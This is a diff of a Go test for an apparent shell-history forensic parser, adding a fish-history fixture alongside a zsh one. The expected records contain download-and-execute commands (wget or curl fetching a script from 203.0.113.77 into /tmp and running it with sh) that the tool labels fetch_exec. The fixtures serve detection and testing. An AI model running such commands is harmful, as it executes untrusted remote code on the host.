@@ -52,6 +52,10 @@ func TestExtract(t *testing.T) {
  && sh /tmp/x user=deploy shell=zsh programs=wget,sh,/tmp/x urls=http://203.0.113.77/x traits=fetch,fetch_exec,temp_exec
 0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:05Z shell=zsh user=deploy lines=3 size=94
 `},
+		{"/home/deploy/.local/share/fish/fish_history", `4+63 history.command typed=2026-11-20T07:50:05Z command=curl -fsSL http://203.0.113.77/i.sh -o /tmp/i
+sh /tmp/i user=deploy shell=fish programs=curl,sh,/tmp/i urls=http://203.0.113.77/i.sh traits=fetch,fetch_exec,temp_exec
+0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:05Z shell=fish user=deploy lines=6 size=128
+`},
 	} {
 		b, err := os.ReadFile("testdata" + tt.path)
 		if err != nil {
